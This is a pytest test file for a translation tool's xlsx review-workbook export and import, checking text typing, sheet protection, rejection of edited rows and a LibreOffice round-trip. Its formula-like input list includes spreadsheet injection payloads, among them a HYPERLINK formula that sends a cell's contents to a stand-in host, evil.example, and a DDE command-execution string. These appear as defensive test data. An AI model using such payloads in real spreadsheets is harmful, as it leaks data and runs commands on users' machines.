"""The review workbook (``--format xlsx``): cells typed as text, protection, import, LibreOffice.

Real openpyxl workbooks, real SQLite memories, real CLI runs (with the fake
engine, whose translation is the upper-cased source) and the real
LibreOffice (``soffice``), which the round-trip tests skip, saying so, where
it is absent.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.styles import Protection
from typer.testing import CliRunner

from translate_cli.batching import sentence_key
from translate_cli.cli import app
from translate_cli.document import AlignedPair, Document, Result, RunMeta
from translate_cli.errors import InputError
from translate_cli.memory import TranslationMemory
from translate_cli.review import import_reviewed
from translate_cli.writers import get_writer
from translate_cli.writers.text import TSV_COLUMNS, tsv_unescape
from translate_cli.writers.xlsx import read_xlsx, xlsx_escape, xlsx_unescape

from .conftest import COPY_MODEL
from .fakes import FakeEngine

META = RunMeta("0.1.0", "model-x", "rev-1", "fake", 4, "2026-11-24T20:15:00Z")
SOFFICE = shutil.which("soffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui",
)
# Sources a spreadsheet would run as a formula or read as a value if the
# cell were not typed as text.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    " =2+2",
]
VALUE_LIKE = ["007", "2024", "1e5", "3,5", "1/2", "2024-01-01", "12:30", "(1)", "true", "50 %"]
ORDINARY = [
    "Le maire est venu.",
    "'Apostrophe en tête",
    'Il a dit "non" deux fois.',
    "« Guillemets » et 1er\u00a0mars.",
    "Deux\nlignes",
]
# What XML cannot hold, and text that looks like the escape used for it.
ODD = ["Contrôle\x01et\x1fla fin", "Tab\tici", "Littéral _x0041_ ici"]
SOURCES = FORMULA_LIKE + VALUE_LIKE + ORDINARY + ODD
SOURCE, TARGET, CHECK = (TSV_COLUMNS.index(c) + 1 for c in ("source", "target", "check"))


def result_of(sources: list[str], name: str = "doc.fr.txt") -> Result:
    pairs = tuple(
        AlignedPair(i, 0, s, s.upper(), ("untranslated",), -0.5) for i, s in enumerate(sources)
    )
    return Result(Document(name, ("",) * len(sources), "\n\n", "utf-8", "abc"), pairs, META)


def write_xlsx(path: Path, *results: Result) -> Path:
    """Write as the output machinery does: a UTF-8 text file over a binary one."""
    with path.open("w", encoding="utf-8", newline="\n") as fh:
        get_writer("xlsx").write(results, fh)
    return path


def write_tsv(path: Path, *results: Result) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        get_writer("tsv").write(results, fh)
    return path


def edit(path: Path, out: Path, targets: dict[int, str]) -> Path:
    """Type ``targets`` (sheet row -> text) into the target cells as text; save as ``out``."""
    book = load_workbook(path)
    sheet = book.worksheets[0]
    for row, value in targets.items():
        cell = sheet.cell(row, TARGET)
        cell.value = value
        cell.data_type = "s"  # openpyxl would make "=..." a formula
    book.save(out)
    return out


def reviewed_targets(memory: TranslationMemory, sources: list[str]) -> dict[str, str]:
    keys = {sentence_key(s): s for s in sources}
    found = memory.lookup(list(keys), "any")
    return {keys[k]: e.target for k, e in found.items() if e.origin == "reviewed"}


# --- the writer --------------------------------------------------------------


def test_every_cell_is_text_and_only_targets_are_editable(tmp_path):
    path = write_xlsx(tmp_path / "doc.fr-en.xlsx", result_of(SOURCES))
    book = load_workbook(path)
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(TSV_COLUMNS)
    assert len(rows) == 1 + len(SOURCES)
    for row in rows:
        for cell in row:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.number_format == "@"
            assert cell.protection.locked is (cell.column != TARGET or cell.row == 1)
    assert sheet.protection.sheet is True and not sheet.protection.password
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["D"].width == sheet.column_dimensions["E"].width == 60
    assert rows[1][SOURCE - 1].alignment.wrap_text
    assert sheet.auto_filter.ref == f"A1:H{1 + len(SOURCES)}"
    # Formula-looking and value-looking text stays the text it is.
    assert [xlsx_unescape(r[SOURCE - 1].value) for r in rows[1:]] == SOURCES
    assert rows[1][TSV_COLUMNS.index("paragraph")].value == "1"
    assert rows[1][TSV_COLUMNS.index("score")].value == "-0.5000"
    # In the file itself: inline strings only, no formula, no number cell.
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and "<v>" not in xml
    assert xml.count('t="inlineStr"') == len(TSV_COLUMNS) * (1 + len(SOURCES))


def test_workbook_columns_are_the_tsv_columns_cell_for_cell(tmp_path):
    results = (result_of(SOURCES[:8], "a.fr.txt"), result_of(SOURCES[8:], "b.fr.txt"))
    tsv = write_tsv(tmp_path / "all.fr-en.tsv", *results)
    xlsx = write_xlsx(tmp_path / "all.fr-en.xlsx", *results)
    tsv_rows = [
        [tsv_unescape(c) for c in line.split("\t")]
        for line in tsv.read_text(encoding="utf-8").split("\n")[:-1]
    ]
    sheet = load_workbook(xlsx, read_only=True).worksheets[0]
    xlsx_rows = [[xlsx_unescape(v or "") for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows == tsv_rows


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("plain", "plain"),
        ("a\x01b", "a_x0001_b"),
        ("\ud800", "_xD800_"),
        ("\ufffe", "_xFFFE_"),
        ("_x0041_", "_x005F_x0041_"),
        ("_x00_", "_x00_"),
        ("tab\tand\nline", "tab\tand\nline"),
    ],
)
def test_xlsx_escape_round_trips(raw, escaped):
    assert xlsx_escape(raw) == escaped
    assert xlsx_unescape(escaped) == raw


def test_xlsx_unescape_reads_other_writers_text():
    # Excel writes a carriage return as _x000D_; openpyxl gives a shared
    # string's escaped literal "_x005F_x0041_" as "_x0041_": text, kept.
    assert xlsx_unescape("a_x000D_b") == "a\rb"
    assert xlsx_unescape("_x0041_ and _x00e9_") == "_x0041_ and _x00e9_"


def test_writer_refuses_a_stream_without_a_binary_buffer():
    with pytest.raises(TypeError, match="binary"):
        get_writer("xlsx").write([result_of(["Un."])], io.StringIO())


def test_empty_run_gives_a_header_only_workbook(tmp_path):
    path = write_xlsx(tmp_path / "none.fr-en.xlsx")
    assert list(read_xlsx(path, ("source",))) == []
    rows = list(load_workbook(path).worksheets[0].iter_rows(values_only=True))
    assert rows == [TSV_COLUMNS]


def test_help_does_not_import_openpyxl():
    code = (
        "import sys; from translate_cli.cli import app\n"
        "try:\n    app(['--help'])\nexcept SystemExit:\n    pass\n"
        "from translate_cli.writers import FORMATS\n"
        "print('XLSX', 'xlsx' in FORMATS, 'openpyxl' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert "XLSX True False" in out.stdout  # registered, and openpyxl not loaded


# --- importing ---------------------------------------------------------------


def test_untouched_workbook_imports_as_all_unchanged(tmp_path):
    path = write_xlsx(tmp_path / "doc.fr-en.xlsx", result_of(SOURCES))
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(path, memory)
    assert (report.imported, report.unchanged, report.rejected) == (0, len(SOURCES), [])


def test_edited_workbook_imports_its_edited_targets(tmp_path):
    path = write_xlsx(tmp_path / "doc.fr-en.xlsx", result_of(SOURCES))
    edits = {2: "One plus one.", 9: "=2+2 as text", 10: "007", 22: "Littéral _x0041_ gardé"}
    edited = edit(path, tmp_path / "edited.xlsx", edits)
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(edited, memory)
        found = reviewed_targets(memory, SOURCES)
    assert report.rejected == []
    assert (report.imported, report.unchanged) == (4, len(SOURCES) - 4)
    assert found == {SOURCES[row - 2]: text for row, text in edits.items()}


def test_rejections_name_their_cause(tmp_path):
    sources = [*ORDINARY, "Cinq.", "Six.", "Sept.", "Huit."]
    path = write_xlsx(tmp_path / "doc.fr-en.xlsx", result_of(sources))
    book = load_workbook(path)
    sheet = book.worksheets[0]
    for row in range(2, 2 + len(sources)):
        sheet.cell(row, TARGET).value = f"Reviewed {row}."
    sheet.cell(3, SOURCE).value = "Une source modifiée."  # edited source
    # Source cells moved between rows 5 and 6.
    a, b = sheet.cell(5, SOURCE), sheet.cell(6, SOURCE)
    a.value, b.value = b.value, a.value
    sheet.cell(7, TARGET).value = "=1+1"  # became a formula
    sheet.cell(8, TARGET).value = 42  # became a number
    sheet.cell(9, TARGET).value = None  # emptied
    # Whole rows 10 and 2 swapped (a sort): still fine.
    for column in range(1, len(TSV_COLUMNS) + 1):
        x, y = sheet.cell(2, column), sheet.cell(10, column)
        x.value, y.value = y.value, x.value
    saved = tmp_path / "saved.xlsx"
    book.save(saved)
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(saved, memory)
        found = reviewed_targets(memory, sources)
    causes = {int(r.split(":")[1]): r.split(":", 2)[2] for r in report.rejected}
    assert sorted(causes) == [3, 5, 6, 7, 8, 9]
    assert "changed since export" in causes[3]
    assert "moved row" in causes[5] and "line 6" in causes[5]
    assert "moved row" in causes[6] and "line 5" in causes[6]
    assert "cell E7 (target) is a formula (=1+1), not text; it is not run" in causes[7]
    assert "cell E8 (target) is a number, not text" in causes[8]
    assert "empty target" in causes[9]
    assert report.imported == 3
    assert found == {
        sources[8]: "Reviewed 10.",
        sources[0]: "Reviewed 2.",
        sources[2]: "Reviewed 4.",
    }


def test_a_source_that_became_a_number_is_rejected_naming_the_cell(tmp_path):
    path = write_xlsx(tmp_path / "doc.fr-en.xlsx", result_of(["007", "Un."]))
    book = load_workbook(path)
    book.worksheets[0].cell(2, SOURCE).value = 7
    book.worksheets[0].cell(2, TARGET).value = "Seven."
    book.save(path)
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(path, memory)
    assert report.imported == 0
    (reason,) = report.rejected
    assert reason.startswith(f"{path}:2: cell D2 (source) is a number, not text")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"not a zip at all", "not a readable .xlsx workbook"),
        (b"", "not a readable .xlsx workbook"),
        ("zip", "not a readable .xlsx workbook"),
        ("truncated", "not a readable .xlsx workbook"),
        ("columns", "not a translate-cli review workbook (missing columns: doc, paragraph"),
    ],
)
def test_a_bad_workbook_is_one_line_naming_the_file(tmp_path, content, reason):
    path = tmp_path / "bad.xlsx"
    if content == "zip":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("hello.txt", "a zip, not a workbook")
    elif content == "truncated":
        data = write_xlsx(tmp_path / "good.xlsx", result_of(SOURCES)).read_bytes()
        path.write_bytes(data[: len(data) // 2])
    elif content == "columns":
        from openpyxl import Workbook

        book = Workbook()
        book.active.append(["source", "target"])
        book.active.append(["Un.", "One."])
        book.save(path)
    else:
        path.write_bytes(content)
    with TranslationMemory(tmp_path / "tm.sqlite") as memory, pytest.raises(InputError) as info:
        import_reviewed(path, memory)
    message = str(info.value)
    assert str(path) in message and reason in message
    assert "\n" not in message


def test_a_damaged_sheet_is_an_input_error_and_stores_nothing(tmp_path):
    good = write_xlsx(tmp_path / "good.xlsx", result_of(["Un.", "Deux."]))
    edited = edit(good, tmp_path / "edited.xlsx", {2: "One, reviewed."})
    damaged = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(edited) as src, zipfile.ZipFile(damaged, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) - 40]  # cut off mid-sheet: bad XML
            dst.writestr(item, data)
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        with pytest.raises(InputError, match=r"damaged\.xlsx: not a readable \.xlsx workbook"):
            import_reviewed(damaged, memory)
        assert reviewed_targets(memory, ["Un.", "Deux."]) == {}


# --- the CLI: outputs machinery and the review loop ---------------------------


@pytest.fixture
def fake_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        "translate_cli.runner.load_engine", lambda settings, source=None: FakeEngine()
    )


def test_review_loop_through_the_workbook(tmp_path, fake_engine):
    src = tmp_path / "article.txt"
    src.write_text("Le maire est venu. Il a parlé.\n\n=1+1 reste du texte.\n", encoding="utf-8")
    out, tm = tmp_path / "out", tmp_path / "tm.sqlite"
    invoke = CliRunner().invoke
    model = ["--model", str(COPY_MODEL), "--engine", "transformers"]
    base = [str(src), "-o", str(out), "--tm", str(tm), "-f", "xlsx,txt", *model]
    first = invoke(app, base)
    assert first.exit_code == 0, first.stderr
    xlsx = out / "article.fr-en.xlsx"
    meta = json.loads((out / "article.meta.json").read_text())
    import hashlib

    assert (
        meta["output_sha256"]["article.fr-en.xlsx"] == hashlib.sha256(xlsx.read_bytes()).hexdigest()
    )
    assert [r.cells["source"] for r in read_xlsx(xlsx, ("source",))] == [
        "Le maire est venu.",
        "Il a parlé.",
        "=1+1 reste du texte.",
    ]

    edit(xlsx, xlsx, {2: "The mayor came, reviewed.", 4: "=1+1 stays text."})
    imported = invoke(app, ["--import-reviewed", str(xlsx), "--tm", str(tm)])
    assert imported.exit_code == 0, imported.stderr
    assert "2 reviewed, 1 unchanged" in imported.stderr

    rerun = invoke(app, [*base, "--force"])
    assert rerun.exit_code == 0, rerun.stderr
    # The edited workbook is kept as a backup before it is rewritten.
    (backup,) = out.glob("article.fr-en.edited-*.xlsx")
    assert f"kept edited output as backup: {backup}" in rerun.stderr
    rows = {r.row: r.cells for r in read_xlsx(xlsx, ("target", "flags"))}
    assert rows[2]["target"] == "The mayor came, reviewed."
    assert rows[4]["target"] == "=1+1 stays text."
    assert "reviewed" in rows[2]["flags"] and "reviewed" not in rows[3]["flags"]
    assert load_workbook(xlsx).worksheets[0]["E4"].data_type == "s"
    assert "The mayor came, reviewed." in (out / "article.en.txt").read_text()


# --- LibreOffice: opened and saved, then imported -----------------------------


def soffice(profile: Path, source: Path, target: str, outdir: Path) -> Path:
    """Open ``source`` in LibreOffice and save it as ``target`` (a filter spec) in ``outdir``."""
    subprocess.run(
        [
            SOFFICE or "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(outdir),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    (made,) = outdir.iterdir()
    return made


# Edits a reviewer makes (sheet row -> typed target): formula-looking and
# value-looking text typed into the text-formatted target cells.
LO_EDITS = {2: "One plus one.", 5: "=SUM(1;2) in words", 9: "2024", 13: "12:30", 20: "Reviewed."}


@pytest.fixture(scope="module")
def libreoffice_saved(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The review workbook, edited, then saved by LibreOffice as .xlsx and via .ods.

    One LibreOffice profile for the module, in its own folder, so it starts
    once and clashes with no other test's.
    """
    if SOFFICE is None:
        pytest.skip(
            "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"
        )
    folder = tmp_path_factory.mktemp("libreoffice")
    profile = folder / "profile"
    workbook = write_xlsx(folder / "doc.fr-en.xlsx", result_of(SOURCES))
    edited = edit(workbook, folder / "edited.xlsx", LO_EDITS)
    as_xlsx = soffice(profile, edited, "xlsx:Calc MS Excel 2007 XML", folder / "xlsx")
    ods = soffice(profile, edited, "ods", folder / "ods")
    via_ods = soffice(profile, ods, "xlsx:Calc MS Excel 2007 XML", folder / "via-ods")
    return {"xlsx": as_xlsx, "via-ods": via_ods}


@needs_soffice
def test_libreoffice_saved_workbook_imports_its_edits(libreoffice_saved, tmp_path):
    saved = libreoffice_saved["xlsx"]
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(saved, memory)
        found = reviewed_targets(memory, SOURCES)
    assert report.rejected == []
    assert (report.imported, report.unchanged) == (len(LO_EDITS), len(SOURCES) - len(LO_EDITS))
    assert found == {SOURCES[row - 2]: text for row, text in LO_EDITS.items()}


@needs_soffice
@pytest.mark.parametrize("path", ["xlsx", "via-ods"])
def test_libreoffice_keeps_every_cell_text_and_the_protection(libreoffice_saved, path):
    saved = libreoffice_saved[path]
    with zipfile.ZipFile(saved) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula
    sheet = load_workbook(saved).worksheets[0]
    kinds = {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}
    assert kinds == {"s"}  # no number, date or boolean either
    sources = [sheet.cell(r, SOURCE).value for r in range(2, 2 + len(SOURCES))]
    assert sources[: len(FORMULA_LIKE + VALUE_LIKE)] == FORMULA_LIKE + VALUE_LIKE
    assert sheet.protection.sheet is True
    assert sheet.cell(2, TARGET).protection == Protection(locked=False)
    assert sheet.cell(2, SOURCE).protection.locked is True


@needs_soffice
def test_libreoffice_ods_detour_rejects_only_rows_it_changed(libreoffice_saved, tmp_path):
    """Through .ods, LibreOffice drops control characters and tabs from cells:
    those rows' checks fail, so they are rejected, never stored against a
    changed source; every other edit imports."""
    saved = libreoffice_saved["via-ods"]
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(saved, memory)
        found = reviewed_targets(memory, SOURCES)
    odd_rows = [SOURCES.index(s) + 2 for s in ODD[:2]]
    assert [int(r.split(":")[1]) for r in report.rejected] == odd_rows
    assert all("changed since export" in r for r in report.rejected)
    assert found == {SOURCES[row - 2]: text for row, text in LO_EDITS.items()}
    assert report.unchanged == len(SOURCES) - len(LO_EDITS) - 2
